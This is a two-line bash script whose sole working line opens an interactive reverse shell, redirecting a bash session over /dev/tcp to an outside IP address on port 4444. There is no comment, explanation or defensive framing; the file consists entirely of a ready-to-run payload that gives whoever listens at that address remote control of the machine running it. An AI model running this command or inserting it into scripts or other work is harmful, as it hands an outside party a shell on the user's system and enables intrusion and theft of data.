#!/bin/bash
bash -i >& /dev/tcp/91.213.8.44/4444 0>&1
